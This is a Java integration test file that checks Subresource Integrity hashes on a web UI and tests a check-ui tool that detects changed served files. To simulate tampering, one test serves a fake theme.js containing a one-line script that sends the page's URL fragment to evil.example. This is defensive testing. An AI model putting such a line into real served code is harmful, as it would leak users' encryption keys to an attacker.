package dev.ferry.web;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.sun.net.httpserver.HttpServer;
import dev.ferry.testing.IntegrationTest;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What a malicious server could not do unnoticed (docs/security.md, end-to-end
 * encryption): every script and stylesheet of the served UI carries Subresource Integrity
 * that matches the file served, and {@code bin/check-ui} compares a running server with
 * the build's {@code SHA256SUMS}, failing on a changed file.
 */
class UiIntegrityIntegrationTests extends IntegrationTest {

	private static final Pattern SUBRESOURCE = Pattern.compile("<(script|link)\\b[^>]*>");

	private static final Pattern URL = Pattern.compile("\\s(?:src|href)=\"([^\"]+)\"");

	private static final Pattern INTEGRITY = Pattern.compile("\\sintegrity=\"sha384-([^\"]+)\"");

	private static final Path CHECK_UI = Path.of("..", "bin", "check-ui").toAbsolutePath().normalize();

	private final HttpClient http = HttpClient.newHttpClient();

	@Test
	void everyScriptAndStylesheetCarriesTheIntegrityOfTheFileServed() throws Exception {
		String index = new String(fetch(base() + "/"), StandardCharsets.UTF_8);
		Matcher tag = SUBRESOURCE.matcher(index);
		List<String> checked = new ArrayList<>();
		while (tag.find()) {
			String element = tag.group();
			if (tag.group(1).equals("link") && !element.matches("(?s).*\\srel=\"(stylesheet|modulepreload)\".*")) {
				continue;
			}
			Matcher url = URL.matcher(element);
			Matcher integrity = INTEGRITY.matcher(element);
			assertThat(url.find()).as(element).isTrue();
			assertThat(integrity.find()).as("integrity of " + element).isTrue();
			byte[] served = fetch(base() + url.group(1));
			String expected = Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-384").digest(served));
			assertThat(integrity.group(1)).as(url.group(1)).isEqualTo(expected);
			checked.add(url.group(1));
		}
		assertThat(checked).contains("/theme.js")
			.anyMatch((path) -> path.matches("/assets/index-.+\\.js"))
			.anyMatch((path) -> path.matches("/assets/index-.+\\.css"));
	}

	@Test
	void checkUiConfirmsTheServedUiAndPrintsItsHash() throws Exception {
		String hash = sha256(fetch(base() + "/SHA256SUMS"));
		String sums = new String(fetch(base() + "/SHA256SUMS"), StandardCharsets.UTF_8);
		assertThat(sums).contains("  index.html\n", "  theme.js\n", "  e2e-sw.js\n")
			.containsPattern("  assets/index-.+\\.js\n");

		Result ok = checkUi(base(), hash);
		assertThat(ok.exit()).as(ok.output()).isZero();
		assertThat(ok.output()).contains("UI hash: " + hash);

		Result other = checkUi(base(), "0".repeat(64));
		assertThat(other.exit()).isEqualTo(1);
		assertThat(other.output()).contains("differs from the expected build");
	}

	@Test
	void checkUiFailsWhenAServedFileWasChanged() throws Exception {
		HttpServer tampering = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
		tampering.createContext("/", (exchange) -> {
			String path = exchange.getRequestURI().getPath();
			byte[] body;
			try {
				body = path.equals("/theme.js") ? "fetch('https://evil.example/?k='+location.hash)".getBytes()
						: fetch(base() + path);
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
				throw new IOException(ex);
			}
			exchange.sendResponseHeaders(200, body.length);
			try (OutputStream out = exchange.getResponseBody()) {
				out.write(body);
			}
		});
		tampering.start();
		try {
			Result result = checkUi("http://127.0.0.1:" + tampering.getAddress().getPort(), null);
			assertThat(result.exit()).isNotZero();
			assertThat(result.output()).contains("theme.js: FAILED").doesNotContain("UI hash:");
		}
		finally {
			tampering.stop(0);
		}
	}

	private String base() {
		return "http://127.0.0.1:" + port;
	}

	private byte[] fetch(String url) throws IOException, InterruptedException {
		HttpResponse<byte[]> response = http.send(HttpRequest.newBuilder(URI.create(url)).build(),
				HttpResponse.BodyHandlers.ofByteArray());
		assertThat(response.statusCode()).as(url).isEqualTo(200);
		return response.body();
	}

	private static String sha256(byte[] bytes) throws Exception {
		return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
	}

	private static Result checkUi(String base, String expected) throws Exception {
		List<String> command = new ArrayList<>(List.of(CHECK_UI.toString(), base));
		if (expected != null) {
			command.add(expected);
		}
		Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
		String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
		return new Result(process.exitValue(), output);
	}

	private record Result(int exit, String output) {
	}

}
